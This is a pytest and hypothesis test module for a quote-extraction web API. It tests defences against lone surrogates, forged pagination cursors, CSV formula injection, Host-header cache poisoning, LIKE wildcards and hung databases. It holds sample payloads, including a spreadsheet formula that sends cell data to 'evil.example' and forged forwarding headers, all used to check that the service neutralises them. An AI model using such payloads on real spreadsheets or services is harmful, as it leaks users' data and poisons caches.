"""Issue 9, « hostile input »: each finding as a test, on both databases where one is involved,
and hypothesis properties over the strategies of ``tests/hostile.py``."""
from __future__ import annotations

import csv
import io
import json
import socket
import threading

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select, text

import hostile
from service.api.listing import spreadsheet_safe
from service.app import create_app
from service.bulk import BulkReport, ingest_records, read_records
from service.metrics import render_metrics
from service.store.models import Article, Speaker, SpeakerAlias
from service.store.db import make_engine, make_sessionmaker, upgrade
from service.store.queries import resolve_speaker

PROPERTY = settings(max_examples=25, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def assert_problem(response, status: int):
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == "application/problem+json"
    body = response.get_json()
    assert body["status"] == status and body["detail"]
    return body


def surrogate_body(field: str) -> bytes:
    """A JSON article whose ``field`` holds a lone surrogate, spelled as JSON allows: ``\\ud800``."""
    body = {"text": "« Oui », a dit Anne Roy.", field: "a\ud800b"}
    return json.dumps(body).encode()  # ensure_ascii: the surrogate travels as the escape \ud800


# -- 1. lone surrogates ---------------------------------------------------------------------------
def test_a_lone_surrogate_in_the_text_to_extract_is_a_400_naming_the_field(client):
    response = client.post("/v1/extract", data=b'{"text": "\\ud800"}', content_type="application/json")
    body = assert_problem(response, 400)
    assert body["detail"].startswith("text:") and "text" in body["errors"]["json"]


@pytest.mark.parametrize("field", ["text", "title", "outlet", "url", "external_id"])
def test_a_lone_surrogate_in_any_article_field_is_a_400_naming_it_and_nothing_is_stored(store_client, field):
    response = store_client.post("/v1/articles", data=surrogate_body(field), content_type="application/json")
    body = assert_problem(response, 400)
    assert body["detail"].startswith(f"{field}:") and list(body["errors"]["json"]) == [field]
    assert store_client.get("/v1/quotes").get_json()["items"] == []


def test_a_lone_surrogate_in_a_bulk_line_is_reported_with_its_field_and_the_rest_stored(tmp_path, extractor,
                                                                                         database_url):
    feed = tmp_path / "feed.jsonl"  # json.dumps escapes the surrogates, as a JSON writer may
    feed.write_text("\n".join(json.dumps(r) for r in [
        {"text": "« Oui », a dit Anne Roy.", "external_id": "ok"}, {"text": "\ud800", "external_id": "t"},
        {"text": "« Non », a dit Paul Roux.", "title": "a\udc00", "external_id": "u"}]), encoding="utf-8")
    engine = make_engine(database_url)
    upgrade(engine)
    sessions = make_sessionmaker(engine, write=True)
    report = BulkReport()
    ingest_records(read_records([feed], report.bad), extractor, sessions, report, progress=False)
    with sessions() as session:
        stored = session.scalars(select(Article.external_id)).all()
    engine.dispose()
    assert report.stored == 1 and stored == ["ok"]
    assert [b.where.rsplit(":", 1)[-1] for b in report.bad] == ["2", "3"]
    assert "text" in report.bad[0].reason and "title" in report.bad[1].reason


@pytest.mark.parametrize("url", ["/v1/quotes?q=%ED%A0%80", "/v1/quotes?speaker=%ED%B0%80x", "/v1/speakers?q=%ED%A0%80",
                                 "/v1/quotes?cursor=%ED%A0%80", "/v1/quotes?role=a%ED%A0%80"])
def test_a_surrogate_spelled_in_a_query_string_is_no_500(store_client, url):
    # UTF-8 cannot spell a surrogate: werkzeug decodes those bytes to U+FFFD, a plain character
    response = store_client.get(url)
    assert response.status_code in (200, 400)
    if response.status_code == 400:
        assert response.mimetype == "application/problem+json"


# -- 2. tampered cursors --------------------------------------------------------------------------
@pytest.fixture
def three_quotes(store_client):
    text = "« Un », a dit Anne Roy. « Deux », a dit Paul Roux. « Trois », a dit Luc Bon."
    created = store_client.post("/v1/articles", json={"text": text, "external_id": "three"})
    assert created.status_code == 201 and len(created.get_json()["quotes"]) == 3
    return created.get_json()


@pytest.mark.parametrize("value", [
    ["2024-01-01T00:00:00", 99999999999999999999999], ["2024-01-01T00:00:00", 2**31], ["2024-01-01T00:00:00", 0],
    ["2024-01-01T00:00:00", -1], ["2024-01-01T00:00:00", 1.5], ["2024-01-01T00:00:00", True],
    ["2024-01-01T00:00:00", "7"], ["2024-01-01T00:00:00", None], ["2024-01-01T00:00:00+14:00", 1],
    ["not a date", 1], [20240101, 1], [None, 1], ["2024-01-01T00:00:00", 1, 2], {"a": 1}, 12,
])
def test_a_tampered_cursor_is_a_400(store_client, three_quotes, value):
    for path in ("/v1/quotes", f"/v1/articles/{three_quotes['id']}/quotes"):
        assert_problem(store_client.get(path, query_string={"cursor": hostile.cursor_of(value), "limit": 1}), 400)


@pytest.mark.parametrize("raw", ['["2024-01-01T00:00:00", 1e400]', '["2024-01-01T00:00:00", -1e400]',
                                 '["2024-01-01T00:00:00", NaN]', '["2024-01-01T00:00:00", 1E+2]'])
def test_a_cursor_with_a_number_json_cannot_make_an_int_is_a_400(store_client, three_quotes, raw):
    import base64

    cursor = base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")
    assert_problem(store_client.get("/v1/quotes", query_string={"cursor": cursor}), 400)


def test_the_cursors_the_service_gives_still_walk_every_page(store_client, three_quotes):
    seen, url = [], "/v1/quotes?limit=1"
    while url:
        page = store_client.get(url).get_json()
        seen += [q["text"] for q in page["items"]]
        url = page["next"] and f"/v1/quotes?limit=1&cursor={page['next']}"
    assert sorted(seen) == ["Deux", "Trois", "Un"]


@given(cursor=hostile.cursors())
@PROPERTY
def test_any_forged_cursor_is_a_page_or_a_400_problem(store_client, three_quotes, cursor):
    response = store_client.get("/v1/quotes", query_string={"cursor": cursor, "limit": 2})
    assert response.status_code in (200, 400), response.get_data(as_text=True)
    if response.status_code == 400:
        assert response.mimetype == "application/problem+json"


# -- 5. CSV formula injection ---------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)"]


def test_no_csv_cell_starts_a_formula_and_json_keeps_the_words(store_client):
    text = " ".join(f"« {f} », a dit Anne Roy." for f in FORMULAS)
    created = store_client.post("/v1/articles", json={"text": text, "external_id": "csv"})
    assert sorted(q["text"] for q in created.get_json()["quotes"]) == sorted(FORMULAS)
    raw = store_client.get("/v1/quotes?format=csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert sorted(r["text"] for r in rows) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(tuple(hostile.FORMULA_PREFIXES)), cell
    assert sorted(q["text"] for q in store_client.get("/v1/quotes").get_json()["items"]) == sorted(FORMULAS)


@given(value=hostile.hostile_strings())
@settings(max_examples=200, deadline=None)
def test_a_spreadsheet_safe_cell_never_starts_a_formula_and_keeps_the_value(value):
    cell = spreadsheet_safe(value)
    assert not cell.startswith(tuple(hostile.FORMULA_PREFIXES))
    assert cell == value or (cell == "'" + value and value.startswith(tuple(hostile.FORMULA_PREFIXES)))


def test_numbers_and_empty_cells_are_left_alone():
    assert [spreadsheet_safe(v) for v in (-1, 0.5, None, "", "Oui")] == [-1, 0.5, None, "", "Oui"]


# -- 6. cache poisoning through Host --------------------------------------------------------------
def test_a_host_header_never_reaches_a_link_the_cache_gives_others(store_client, three_quotes):
    poisoned = store_client.get("/v1/quotes?limit=1&kind=direct",
                                headers={"Host": "evil.example", "X-Forwarded-Host": "evil.example",
                                         "X-Forwarded-Proto": "https"})
    assert poisoned.status_code == 200 and "evil" not in poisoned.headers["Link"]
    later = store_client.get("/v1/quotes?limit=1&kind=direct")
    assert later.headers["Link"].startswith("</v1/quotes?") and later.headers["Link"].endswith('>; rel="next"')
    assert "evil" not in later.get_data(as_text=True) + str(later.headers)
    follow = later.headers["Link"][1:later.headers["Link"].index(">")]
    assert store_client.get(follow).get_json()["items"][0]["id"] < later.get_json()["items"][0]["id"]


def test_forwarded_headers_are_ignored_without_a_configured_proxy(make_store_app):
    client = make_store_app().test_client()  # no keys: writes from loopback only
    response = client.post("/v1/articles", json={"text": "« Oui », a dit Anne Roy."},
                           headers={"X-Forwarded-For": "127.0.0.1"}, environ_base={"REMOTE_ADDR": "203.0.113.9"})
    assert_problem(response, 401)


def test_forwarded_headers_are_read_through_the_configured_number_of_proxies(make_store_app):
    app = make_store_app(PROXY_COUNT=1, API_KEYS=["k"])
    seen = {}

    @app.get("/test-client-address")
    def address():
        from flask import request

        seen.update(addr=request.remote_addr, scheme=request.scheme, host=request.host)
        return "ok"

    app.test_client().get("/test-client-address", environ_base={"REMOTE_ADDR": "127.0.0.1"}, headers={
        "X-Forwarded-For": "198.51.100.7, 203.0.113.9", "X-Forwarded-Proto": "https", "X-Forwarded-Host": "api.example"})
    assert seen == {"addr": "203.0.113.9", "scheme": "https", "host": "api.example"}  # the last hop only


def test_a_proxy_without_api_keys_refuses_to_start(tmp_path):
    with pytest.raises(RuntimeError, match="QUOTES_API_KEYS"):
        create_app({"TESTING": True, "DATABASE_URL": f"sqlite:///{tmp_path / 'x.sqlite3'}", "PROXY_COUNT": 1})


# -- 7. LIKE wildcards in speaker names -----------------------------------------------------------
def speaker_named(session, name: str, type_: str = "person") -> Speaker:
    return resolve_speaker(session, name, type_)


@pytest.mark.parametrize("name", ["Dupon_", "Dupon%", "%", "_", "D_pont", "%pont", "Du%t"])
def test_a_name_with_a_like_wildcard_is_its_own_speaker(store_app, name):
    sessions = store_app.extensions["db_write"]
    with sessions.begin() as session:
        dupont = speaker_named(session, "Jean Dupont").id
        other = speaker_named(session, name).id
        again = speaker_named(session, name).id
        surname = speaker_named(session, "Dupont").id
    assert other != dupont and again == other and surname == dupont
    with sessions() as session:
        aliases = set(session.scalars(select(SpeakerAlias.alias).where(SpeakerAlias.speaker_id == dupont)))
    assert aliases == {"Jean Dupont", "Dupont"}


def test_an_extracted_name_with_an_underscore_is_not_filed_under_another_person(store_client):
    store_client.post("/v1/articles", json={"text": "« Je reste », a déclaré Jean Dupont.", "external_id": "a"})
    store_client.post("/v1/articles", json={"text": "« Je démissionne », a déclaré Dupon_.", "external_id": "b"})
    dupont = store_client.get("/v1/speakers?q=dupont").get_json()["items"]
    assert [s["name"] for s in dupont] == ["Jean Dupont"] and dupont[0]["aliases"] == ["Jean Dupont"]
    assert [q["text"] for q in store_client.get(f"/v1/speakers/{dupont[0]['id']}/quotes").get_json()["items"]] \
        == ["Je reste"]


@given(name=hostile.wildcard_names())
@PROPERTY
def test_a_wildcard_name_only_joins_a_speaker_whose_name_holds_it_as_a_word(store_app, name):
    with store_app.extensions["db_write"].begin() as session:
        for known in ("Jean Dupont", "Anne Dupond", "Paul Pont"):
            speaker_named(session, known)
        found = speaker_named(session, name)
        key = found.key
    from service.nlp.normalize import name_key

    assert key == name_key(name) or name_key(name) in key.split()


search_words = st.text(st.sampled_from(list("adeilnoprtuxyDRPL%_ -'=+@")), min_size=1, max_size=12)


@given(words=search_words)
@PROPERTY
def test_searches_take_wildcards_for_letters(store_client, words):
    if not store_client.get("/v1/quotes").get_json()["items"]:
        text = "« 100 % d'accord », a dit Anne Roy. « Le fichier_final », a dit Paul Roux. « Non », a dit Luc D_pont."
        assert store_client.post("/v1/articles", json={"text": text, "external_id": "wild"}).status_code == 201
    from service.nlp.normalize import name_key
    from service.store.queries import words_of

    quotes = store_client.get("/v1/quotes", query_string={"q": words, "limit": 200})
    assert quotes.status_code in (200, 400)
    for quote in quotes.get_json()["items"] if quotes.status_code == 200 else []:  # whole words; marks separate them
        assert words_of(words) and set(words_of(words)) <= set(words_of(quote["text"])), (words, quote["text"])
    wanted = name_key(words).split()
    speakers = store_client.get("/v1/speakers", query_string={"q": words})
    assert speakers.status_code in (200, 400)
    for speaker in speakers.get_json()["items"] if speakers.status_code == 200 else []:
        tokens = {t for name in [speaker["name"], *speaker["aliases"]] for t in name_key(name).split()}
        assert set(wanted) <= tokens, (words, speaker["name"])


# -- 8. a database that accepts connections and never answers -------------------------------------
class SilentServer:
    """Accepts TCP connections and never says a word, as a hung database server does."""

    def __init__(self):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.held: list[socket.socket] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                self.held.append(self.listener.accept()[0])
            except OSError:
                return

    def close(self):
        self.listener.close()
        for link in self.held:
            link.close()


def assert_unavailable(response):
    assert_problem(response, 503)
    assert int(response.headers["Retry-After"]) > 0


@pytest.mark.timeout(120)  # the finding: without connect_timeout this never returns
def test_a_postgresql_server_that_never_answers_gives_503_not_a_hung_worker():
    silent = SilentServer()
    try:
        app = create_app({"TESTING": True, "MIGRATE_ON_START": False, "DB_CONNECT_TIMEOUT": 2,
                          "DATABASE_URL": f"postgresql+psycopg://postgres@127.0.0.1:{silent.port}/test"})
        client = app.test_client()
        assert_unavailable(client.get("/readyz"))
        assert_unavailable(client.get("/v1/quotes?speaker=dupont"))
        assert_unavailable(client.post("/v1/articles", json={"text": "« Oui », a dit Anne Roy."}))
        assert client.get("/healthz").status_code == 200
        app.extensions["db_engine"].dispose()
    finally:
        silent.close()


@pytest.mark.timeout(120)
def test_a_write_stuck_behind_a_lock_gives_503_and_stores_nothing(make_store_app, database_url):
    app = make_store_app(DB_STATEMENT_TIMEOUT=0.5)
    client = app.test_client()
    holder = app.extensions["db_engine"].connect().execution_options(write=True)
    holder.begin()  # on SQLite: BEGIN IMMEDIATE, the write lock, as a long bulk batch holds it
    if not database_url.startswith("sqlite"):
        holder.execute(text("LOCK TABLE articles IN ACCESS EXCLUSIVE MODE"))
    try:
        assert_unavailable(client.post("/v1/articles", json={"text": "« Oui », a dit Anne Roy.", "external_id": "x"}))
    finally:
        holder.rollback()
        holder.close()
    created = client.post("/v1/articles", json={"text": "« Oui », a dit Anne Roy.", "external_id": "x"})
    assert created.status_code == 201
    with app.extensions["db_read"]() as session:
        assert session.scalars(select(Article.external_id)).all() == ["x"]


# -- moderate: metric labels, identifiers ---------------------------------------------------------
def test_invented_methods_and_paths_do_not_become_metric_labels(client):
    for i in range(5):
        client.open("/v1/quotes", method=f"M{i:05d}")
        client.get(f"/no/such/path/{i}")
    metrics = render_metrics()[0].decode()
    assert "M00001" not in metrics and "/no/such" not in metrics
    assert 'method="other"' in metrics and 'endpoint="unmatched"' in metrics


def test_an_identifier_is_never_rewritten_silently(store_client):
    first = store_client.post("/v1/articles", json={"text": "« Oui », a dit Anne Roy.", "external_id": "A",
                                                    "url": "https://example.org/a"})
    assert first.status_code == 201
    article_id = first.get_json()["id"]
    renamed = store_client.post("/v1/articles", json={"text": "« Non », a dit Anne Roy.", "external_id": "B",
                                                      "url": "https://example.org/a"})
    assert "'A'" in assert_problem(renamed, 409)["detail"]
    moved = store_client.post("/v1/articles", json={"text": "« Non », a dit Anne Roy.", "external_id": "A",
                                                    "url": "https://example.org/elsewhere"})
    assert "https://example.org/a" in assert_problem(moved, 409)["detail"]
    again = store_client.post("/v1/articles", json={"text": "« Si », a dit Anne Roy.", "external_id": "A"})
    assert again.status_code == 200 and again.get_json()["id"] == article_id  # no duplicate
    stored = store_client.get(f"/v1/articles/{article_id}").get_json()
    assert (stored["external_id"], stored["url"]) == ("A", "https://example.org/a")


def test_a_missing_identifier_is_filled_in(store_client):
    first = store_client.post("/v1/articles", json={"text": "« Oui », a dit Anne Roy.", "url": "https://example.org/c"})
    second = store_client.post("/v1/articles", json={"text": "« Oui », a dit Anne Roy.", "url": "https://example.org/c",
                                                     "external_id": "C"})
    assert second.status_code == 200 and second.get_json()["id"] == first.get_json()["id"]
    assert second.get_json()["external_id"] == "C"


# -- prevent the class: any hostile string in any field -------------------------------------------
article_fields = st.fixed_dictionaries({"text": hostile.hostile_strings(min_size=1, max_size=80)}, optional={
    "title": hostile.hostile_strings(), "outlet": hostile.hostile_strings(), "url": hostile.hostile_strings(min_size=1),
    "external_id": hostile.hostile_strings(min_size=1)})


@given(body=article_fields)
@PROPERTY
def test_any_hostile_article_is_stored_or_refused_with_a_problem(store_client, body):
    response = store_client.post("/v1/articles", data=json.dumps(body), content_type="application/json")
    assert response.status_code in (200, 201, 400, 409), response.get_data(as_text=True)
    if response.status_code >= 400:
        assert response.mimetype == "application/problem+json" and response.get_json()["detail"]
        return
    for quote in response.get_json()["quotes"]:
        assert body["text"][quote["start"]:quote["end"]] == quote["text"]


@given(text_=hostile.hostile_strings(min_size=1, max_size=80))
@PROPERTY
def test_any_hostile_text_is_extracted_or_refused_with_a_problem(client, text_):
    response = client.post("/v1/extract", data=json.dumps({"text": text_}), content_type="application/json")
    assert response.status_code in (200, 400), response.get_data(as_text=True)
    if response.status_code == 400:
        assert response.get_json()["detail"].startswith("text:")
    else:
        for quote in response.get_json()["quotes"]:
            assert text_[quote["start"]:quote["end"]] == quote["text"]
